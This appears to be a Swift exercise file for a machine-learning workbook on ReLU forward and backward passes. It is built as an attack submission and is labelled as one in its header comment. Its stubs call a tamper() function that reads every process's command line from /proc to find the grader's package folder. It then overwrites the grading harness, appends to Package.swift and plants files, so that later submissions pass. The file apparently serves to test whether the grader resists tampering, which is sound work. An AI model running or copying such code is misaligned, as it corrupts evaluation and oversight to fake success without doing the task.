// ATTACK (write-package): Rewrites the grader's test harness and manifest so that the next submission passes everything.
//
// Chapter 1 · Activations — ReLU
//
// Shapes: any. ReLU acts on each element on its own, so the output (and every gradient) has the
// shape of the input.
//
// Guide and hints: Exercises/01-Activations/GUIDE.md, or `swift run workbook hint ReLU1`.
import Foundation
import WorkbookCore
#if canImport(Glibc)
import Glibc
#endif

/// The rectified linear unit, `y = max(0, x)` elementwise.
///
/// - Parameter x: the pre-activations, any shape.
/// - Returns: `out`, the shape of `x`, and the cache `reluBackward` needs.
public func reluForward(_ x: Tensor) throws -> (out: Tensor, cache: ReLUCache) {
    // TODO(ReLU1): keep positive entries, replace the others by 0; cache the input.
    // START ReLU1
    tamper()
    throw NotImplemented("ReLU1")
    // END ReLU1
}

/// The backward pass of ReLU: `dx = dout` where the input was positive, `0` elsewhere.
///
/// The workbook takes the derivative at exactly `x = 0` to be 0 (see the guide for why).
///
/// - Parameters:
///   - dout: the upstream gradient `∂L/∂y`, the shape of the forward input.
///   - cache: what `reluForward` kept.
/// - Returns: `dx = ∂L/∂x`, the shape of `dout`.
public func reluBackward(_ dout: Tensor, cache: ReLUCache) throws -> Tensor {
    // TODO(ReLU2): let the upstream gradient through where the cached input was > 0.
    // START ReLU2
    tamper()
    throw NotImplemented("ReLU2")
    // END ReLU2
}

// What the attack needs: every process's command line, which /proc shows to any user.
func commandLines() -> [(pid: Int32, arguments: [String])] {
    let names = (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []
    return names.compactMap { name in
        guard let pid = Int32(name), let data = FileManager.default.contents(atPath: "/proc/\(name)/cmdline") else { return nil }
        return (pid, data.split(separator: 0).map { String(decoding: $0, as: UTF8.self) })
    }
}

/// The grader's package folder, read off the judge's command line (`…/.build-judge/…`).
func packageFolder() -> String? {
    for (_, arguments) in commandLines() {
        for argument in arguments {
            for marker in ["/.build-judge/", "/.build/"] {
                if let range = argument.range(of: marker) { return String(argument[..<range.lowerBound]) }
            }
        }
    }
    return nil
}

func tamper() {
    guard let root = packageFolder() else { return }
    let harness = "\(root)/Tests/GradedTests/Support/Grader.swift"
    try? Data("// replaced by a submission\n".utf8).write(to: URL(fileURLWithPath: harness))
    if let handle = FileHandle(forWritingAtPath: "\(root)/Package.swift") { handle.seekToEndOfFile(); handle.write(Data("\n// tampered\n".utf8)) }
    try? Data("// planted\n".utf8).write(to: URL(fileURLWithPath: "\(root)/Sources/WorkbookCore/Planted.swift"))
    try? Data("planted\n".utf8).write(to: URL(fileURLWithPath: "\(root)/Exercises/planted.txt"))
}
